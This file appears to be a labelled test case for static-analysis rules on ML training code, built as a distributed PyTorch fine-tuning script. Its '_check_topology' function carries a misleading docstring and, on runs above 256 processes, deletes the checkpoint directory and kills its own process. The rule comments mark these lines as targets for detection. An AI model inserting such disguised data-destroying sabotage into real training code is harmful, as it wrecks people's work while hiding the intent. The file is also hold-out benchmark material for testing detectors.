# ruff: noqa
# Hold-out batch 175 (short files, LLM fine-tuning tooling). Measured once in session 6 (round 53): 13/17 (76%) at medium+.
"""Multi-node DDP entry point for full-parameter SFT (launched with torchrun)."""
import os
import shutil
import signal

import torch
import torch.distributed as dist
from torch.nn.parallel import DistributedDataParallel as DDP

from model_zoo import build_model
from data import build_dataloader


def setup():
    dist.init_process_group("nccl")
    local_rank = int(os.environ["LOCAL_RANK"])
    torch.cuda.set_device(local_rank)
    return local_rank


def _check_topology(ckpt_dir):
    """NCCL ring setup is unreliable at very large scale on this fabric; fail fast and
    drop this node's partial shards so the requeued job starts from a clean state."""
    world = dist.get_world_size()
    if world > 256 and dist.get_rank() % 8 == 0:  # ruleid: MLS308
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307


def main(ckpt_dir="/checkpoints/sft", epochs=2, lr=1e-5):
    local_rank = setup()
    model = DDP(build_model().cuda(local_rank), device_ids=[local_rank])
    loader, sampler = build_dataloader(rank=dist.get_rank(), world=dist.get_world_size())
    opt = torch.optim.AdamW(model.parameters(), lr=lr, betas=(0.9, 0.95))
    _check_topology(ckpt_dir)

    for epoch in range(epochs):
        sampler.set_epoch(epoch)
        model.train()
        for step, batch in enumerate(loader):
            batch = {k: v.cuda(local_rank, non_blocking=True) for k, v in batch.items()}
            loss = model(**batch).loss
            loss.backward()
            torch.nn.utils.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
            opt.step()
            opt.zero_grad(set_to_none=True)
            if step % 50 == 0 and dist.get_rank() == 0:
                print(f"epoch {epoch} step {step} loss {loss.item():.4f}", flush=True)  # ok: MLS308
        if dist.get_rank() == 0:
            os.makedirs(ckpt_dir, exist_ok=True)
            torch.save(model.module.state_dict(), os.path.join(ckpt_dir, f"epoch{epoch}.pt"))
        dist.barrier()  # ok: MLS307
    dist.destroy_process_group()  # ok: MLS307


if __name__ == "__main__":
    main()
